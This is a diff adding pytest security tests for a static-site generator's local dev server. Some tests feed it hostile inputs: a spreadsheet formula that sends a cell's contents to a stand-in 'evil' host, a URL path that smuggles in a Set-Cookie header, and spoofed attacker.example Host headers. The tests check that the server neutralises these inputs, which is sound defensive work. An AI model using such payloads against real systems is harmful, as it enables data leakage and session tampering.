@@ -2,13 +2,18 @@
 
 from __future__ import annotations
 
+import csv
+import http.client
 import os
 import re
+import socket
 import subprocess
 import sys
 import time
 from collections.abc import Iterator
+from concurrent.futures import ThreadPoolExecutor
 from pathlib import Path
+from urllib.parse import urlencode
 
 import pytest
 from click.testing import CliRunner
@@ -327,3 +332,130 @@ def test_the_writer_refuses_a_copied_file_that_leads_outside_the_site(site: Path
     with pytest.raises(OutputError, match="outside the site"):
         writer.write([Artifact("env.txt", copy_from=secret)], out)
     assert not out.exists()
+
+
+# -- Nothing leaked: the dev server's form service and its request parsing --------------------------------
+
+
+@pytest.fixture
+def dev(site: Path) -> Iterator[serve.DevServer]:
+    running = serve.start(site, "127.0.0.1", 0)
+    yield running
+    serve.stop(running)
+
+
+def raw(server: serve.DevServer, request: bytes, timeout: float = 5) -> bytes:
+    """Send bytes as they are and read the whole reply (the server closes, or the timeout ends it)."""
+    with socket.create_connection(server.server_address[:2], timeout=timeout) as sock:
+        sock.sendall(request)
+        sock.shutdown(socket.SHUT_WR)
+        reply = b""
+        try:
+            while chunk := sock.recv(65536):
+                reply += chunk
+        except TimeoutError:
+            reply += b"<timeout>"
+        return reply
+
+
+def test_hundreds_of_concurrent_form_posts_are_all_kept(site: Path, dev: serve.DevServer) -> None:
+    host, port = dev.server_address[:2]
+
+    def post(number: int) -> int:
+        connection = http.client.HTTPConnection(host, port, timeout=30)
+        body = urlencode({"form-name": "contact", "name": f"Patient {number}", "note": f"n{number}"})
+        connection.request("POST", "/", body, {"Content-Type": "application/x-www-form-urlencoded"})
+        status = connection.getresponse().status
+        connection.close()
+        return status
+
+    with ThreadPoolExecutor(max_workers=10) as pool:
+        assert set(pool.map(post, range(300))) == {303}
+    with (site / ".sitegen" / "submissions" / "contact.csv").open(newline="") as handle:
+        rows = list(csv.DictReader(handle))
+    assert sorted(row["name"] for row in rows) == sorted(f"Patient {n}" for n in range(300))
+    assert len({row["id"] for row in rows}) == 300
+
+
+def test_form_cells_that_a_spreadsheet_would_run_are_kept_as_text(site: Path, dev: serve.DevServer) -> None:
+    host, port = dev.server_address[:2]
+    connection = http.client.HTTPConnection(host, port, timeout=10)
+    fields = {"form-name": "contact", "name": '=HYPERLINK("http://evil/?"&A1,"x")', "a": "+1", "b": "@SUM(1)"}
+    connection.request("POST", "/", urlencode(fields), {"Content-Type": "application/x-www-form-urlencoded"})
+    assert connection.getresponse().status == 303
+    connection.close()
+    with (site / ".sitegen" / "submissions" / "contact.csv").open(newline="") as handle:
+        row = next(csv.DictReader(handle))
+    assert row["name"] == "'" + fields["name"] and row["a"] == "'+1" and row["b"] == "'@SUM(1)"
+
+
+def test_no_header_can_be_injected_through_an_address(dev: serve.DevServer) -> None:
+    host = b"Host: 127.0.0.1\r\n"
+    reply = raw(
+        dev, b"GET /r/x%0d%0aSet-Cookie:%20pwned=1 HTTP/1.1\r\n" + host + b"Connection: close\r\n\r\n"
+    )
+    head = reply.split(b"\r\n\r\n")[0]
+    assert head.startswith(b"HTTP/1.1 302") and b"\r\nSet-Cookie" not in head
+    body = b"form-name=contact&name=x"
+    reply = raw(
+        dev,
+        b"POST /thanks%0d%0aSet-Cookie:%20pwned=1 HTTP/1.1\r\n" + host + b"Connection: close\r\n"
+        b"Content-Type: application/x-www-form-urlencoded\r\nContent-Length: %d\r\n\r\n%s"
+        % (len(body), body),
+    )
+    head = reply.split(b"\r\n\r\n")[0]
+    assert head.startswith(b"HTTP/1.1 303") and b"\r\nSet-Cookie" not in head
+
+
+def test_a_non_latin_1_address_gets_an_answer(dev: serve.DevServer) -> None:
+    for path in ("/caf%C3%A9", "/%E2%98%83/", "/r/%E2%98%83"):
+        reply = raw(dev, f"GET {path} HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n".encode())
+        assert reply.startswith((b"HTTP/1.1 404", b"HTTP/1.1 301", b"HTTP/1.1 302")), (path, reply[:80])
+
+
+def test_a_page_of_another_site_cannot_read_the_preview_through_dns_rebinding(dev: serve.DevServer) -> None:
+    port = dev.server_address[1]
+    for host in (f"127.0.0.1:{port}", f"localhost:{port}", "[::1]", "LOCALHOST"):
+        reply = raw(dev, f"GET / HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode())
+        assert reply.startswith(b"HTTP/1.1 200"), host
+    for host in (f"attacker.example:{port}", "127.0.0.1.attacker.example", ""):
+        reply = raw(dev, f"GET / HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode())
+        assert reply.startswith(b"HTTP/1.1 421"), host
+
+
+@pytest.mark.parametrize("length", ["-5", "abc", "99999999999", "10, 10"])
+def test_a_bad_content_length_is_refused_at_once(dev: serve.DevServer, length: str) -> None:
+    started = time.monotonic()
+    reply = raw(
+        dev,
+        f"POST / HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/x-www-form-urlencoded\r\n"
+        f"Content-Length: {length}\r\n\r\nform-name=contact&name=x".encode(),
+    )
+    assert reply.startswith((b"HTTP/1.1 400", b"HTTP/1.1 413")), reply[:60]
+    assert reply.count(b"HTTP/1.1 ") == 1  # the body was not taken for a second request
+    assert time.monotonic() - started < 3
+
+
+def test_the_watcher_survives_a_rebuild_that_fails_in_any_way(site: Path, dev: serve.DevServer) -> None:
+    site_obj = dev.site
+    calls = []
+    real = site_obj._build
+
+    def failing(*args: object) -> object:
+        calls.append(1)
+        if len(calls) == 1:
+            raise RecursionError("maximum recursion depth exceeded")
+        return real(*args)
+
+    site_obj._build = failing  # the first rebuild hits a bug; the watcher must still see the next save
+    edit(site, "posts/welcome.md", "\n---\n", "\n---\nFirst save.\n")
+    deadline = time.monotonic() + 20
+    while not calls and time.monotonic() < deadline:
+        time.sleep(0.1)
+    number = site_obj.snapshot.number
+    edit(site, "posts/welcome.md", "First save.", "Second save, seen.")
+    while site_obj.snapshot.number == number and time.monotonic() < deadline:
+        time.sleep(0.1)
+    assert len(calls) >= 2
+    page = site_obj.snapshot.files["posts/welcome/index.html"].content
+    assert b"Second save, seen." in page
